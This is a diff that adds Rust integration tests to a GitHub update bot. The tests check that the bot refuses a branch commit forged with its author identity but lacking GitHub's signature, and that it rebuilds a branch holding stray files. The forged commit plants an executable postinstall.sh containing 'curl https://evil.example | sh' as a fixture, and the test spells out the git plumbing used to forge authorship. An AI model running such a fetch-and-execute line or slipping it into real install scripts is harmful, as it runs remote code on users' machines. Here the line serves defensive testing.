@@ -306,6 +306,173 @@ async fn a_commit_someone_else_pushed_to_the_bots_branch_is_never_overwritten() 
 }
 
 #[tokio::test]
+async fn a_commit_forged_with_the_bots_author_on_its_branch_is_refused() {
+    let stage = stage(&["9.1.0"]).await;
+    run(&stage, &all("9.1.0")).await;
+    let bot = git(
+        &stage.root,
+        CONTAINER,
+        &["log", "-1", "--format=%an%n%ae", "update-9.1.0"],
+    );
+    let (name, email) = bot.trim().split_once('\n').unwrap();
+    assert!(name.ends_with("[bot]"), "{bot}");
+    // Everything about the commit says "the bot, committed by GitHub", except GitHub's signature:
+    // it was pushed with git, as anyone with write access could.
+    let forged_env = [
+        ("GIT_AUTHOR_NAME", name),
+        ("GIT_AUTHOR_EMAIL", email),
+        ("GIT_COMMITTER_NAME", "GitHub"),
+        ("GIT_COMMITTER_EMAIL", "noreply@github.com"),
+    ];
+    let blob_file = stage.root.join("forged.tmp");
+    std::fs::write(&blob_file, "curl https://evil.example | sh\n").unwrap();
+    let blob = git(
+        &stage.root,
+        CONTAINER,
+        &["hash-object", "-w", blob_file.to_str().unwrap()],
+    );
+    let index = stage.root.join("forged-index");
+    let index_env = [("GIT_INDEX_FILE", index.to_str().unwrap())];
+    git_bytes(
+        &stage.root,
+        CONTAINER,
+        &["read-tree", "update-9.1.0"],
+        &index_env,
+    );
+    git_bytes(
+        &stage.root,
+        CONTAINER,
+        &[
+            "update-index",
+            "--add",
+            "--cacheinfo",
+            &format!("100755,{},postinstall.sh", blob.trim()),
+        ],
+        &index_env,
+    );
+    let tree = String::from_utf8(git_bytes(
+        &stage.root,
+        CONTAINER,
+        &["write-tree"],
+        &index_env,
+    ))
+    .unwrap();
+    let parent = git(&stage.root, CONTAINER, &["rev-parse", "update-9.1.0"]);
+    let forged = String::from_utf8(git_bytes(
+        &stage.root,
+        CONTAINER,
+        &[
+            "commit-tree",
+            tree.trim(),
+            "-p",
+            parent.trim(),
+            "-m",
+            "Update versions.json",
+        ],
+        &forged_env,
+    ))
+    .unwrap();
+    git(
+        &stage.root,
+        CONTAINER,
+        &[
+            "update-ref",
+            "refs/heads/update-9.1.0",
+            forged.trim(),
+            parent.trim(),
+        ],
+    );
+    let shown = git(
+        &stage.root,
+        CONTAINER,
+        &["log", "-1", "--format=%an <%ae>", "update-9.1.0"],
+    );
+    assert_eq!(
+        shown.trim(),
+        format!("{name} <{email}>"),
+        "the author is the bot's"
+    );
+
+    let report = run(&stage, &all("9.1.0")).await;
+    let (error, _) = failure(&report, "container");
+    assert!(
+        error.contains("has commits the bot did not make"),
+        "{error}"
+    );
+    assert!(
+        error.contains(&forged.trim()[..12]),
+        "names the commit: {error}"
+    );
+    assert!(
+        error.contains("its signature is not verified by GitHub"),
+        "{error}"
+    );
+    assert_eq!(
+        git(&stage.root, CONTAINER, &["rev-parse", "update-9.1.0"]).trim(),
+        forged.trim(),
+        "the branch is left as it is"
+    );
+    stage.shutdown().await;
+}
+
+#[tokio::test]
+async fn the_bots_branch_is_rebuilt_when_its_tree_holds_anything_the_plan_does_not() {
+    use std::collections::BTreeMap;
+    use valkey_bot_core::config::{Access, Permission};
+    use valkey_bot_core::github::{FileWrite, RepoWrite};
+
+    let stage = stage(&["9.1.0"]).await;
+    run(&stage, &all("9.1.0")).await;
+    // A commit the bot did make (through the API, signed by GitHub), holding a file the plan
+    // does not: as an older plan might have left it.
+    let repo: valkey_bot_core::RepoId = CONTAINER.parse().unwrap();
+    let client = stage
+        .app()
+        .unwrap()
+        .client_for(valkey_bot_github::TokenScope::new(
+            repo.clone(),
+            BTreeMap::from([(Permission::Contents, Access::Write)]),
+        ))
+        .await
+        .unwrap();
+    let head = git(&stage.root, CONTAINER, &["rev-parse", "update-9.1.0"]);
+    let stale = FileWrite {
+        path: "9.1/stale/Dockerfile".into(),
+        content: Some(bytes::Bytes::from_static(b"FROM scratch\n")),
+        executable: false,
+    };
+    let commit = client
+        .create_commit(&repo, head.trim(), &[stale], "Left over")
+        .await
+        .unwrap();
+    client
+        .move_branch(&repo, "update-9.1.0", &commit, false)
+        .await
+        .unwrap();
+
+    let report = run(&stage, &all("9.1.0")).await;
+    assert_eq!(
+        pr_state(&report, "container"),
+        PullRequestState::Updated,
+        "{:?}",
+        report.tasks
+    );
+    let files = git(
+        &stage.root,
+        CONTAINER,
+        &["ls-tree", "-r", "--name-only", "update-9.1.0"],
+    );
+    assert!(!files.contains("9.1/stale/Dockerfile"), "{files}");
+    assert!(
+        !subjects(&stage.root, CONTAINER, "update-9.1.0").contains(&"Left over".to_owned()),
+        "rebuilt from the base"
+    );
+    let rerun = run(&stage, &all("9.1.0")).await;
+    assert_eq!(pr_state(&rerun, "container"), PullRequestState::Unchanged);
+    stage.shutdown().await;
+}
+
+#[tokio::test]
 async fn two_runs_for_the_same_release_at_once_write_everything_once() {
     let stage = stage(&["9.1.0"]).await;
     let request = all("9.1.0");
